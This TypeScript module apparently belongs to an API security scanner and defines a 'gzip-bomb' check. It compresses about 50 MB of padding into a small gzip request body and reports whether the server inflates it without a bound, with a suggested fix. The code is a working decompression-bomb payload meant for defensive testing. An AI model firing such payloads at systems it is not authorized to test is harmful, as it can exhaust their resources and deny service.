import { gzipSync } from 'node:zlib'
import type { Attack, Case } from '../../attack.ts'
import { succeeded } from '../../success.ts'
import { fail, pass } from '../../verdict.ts'
import { heavyCases, heavyVerdict, lightRequest, padded } from './heavy-body.ts'

const INFLATED_BYTES = 50_000_000
const GZIP = [['Content-Encoding', 'gzip']] as const

export const gzipBomb: Attack = {
  id: 'gzip-bomb',
  number: 76,
  risk: 'API4',
  severity: 'high',
  cwe: 409,
  title: 'A small compressed body is inflated without a bound',
  references: ['OWASP API4:2023', 'RFC 9110 section 8.4', 'ASVS 5.0 5.2.3'],
  maxRequests: 4,
  oracle: 'Some fifty kilobytes that hold fifty megabytes are taken (2xx), break something (5xx) or have no answer.',
  fix: 'Refuse Content-Encoding on requests (415), or stop inflating at the limit of the body.',
  phase: 'exhausting',
  cases: heavyCases,
  async run(it: Case, probe) {
    const light = await lightRequest(probe, it)
    const small = {
      ...light.draft,
      body: gzipSync(JSON.stringify(light.draft.body)),
      headers: [...light.draft.headers.filter(([name]) => !/idempotency/i.test(name)), ...GZIP],
    }
    const inflates = await probe.send(small, light.owner, { anyStatus: true })
    if (!succeeded(inflates))
      return pass(`compressed bodies are not taken (${inflates.status})`, light.answer, inflates)
    // Made for each run of the case and let go: fifty megabytes are not kept.
    const body = gzipSync(padded(await light.newBody(), INFLATED_BYTES), { level: 9 })
    const what = `${Math.round(body.length / 1000)} kB that inflate to ${INFLATED_BYTES / 1_000_000} MB`
    return heavyVerdict(probe, light, {
      what,
      body,
      headers: GZIP,
      taken: (answer) => fail(`${what} are taken`, light.answer, inflates, answer),
    })
  },
}
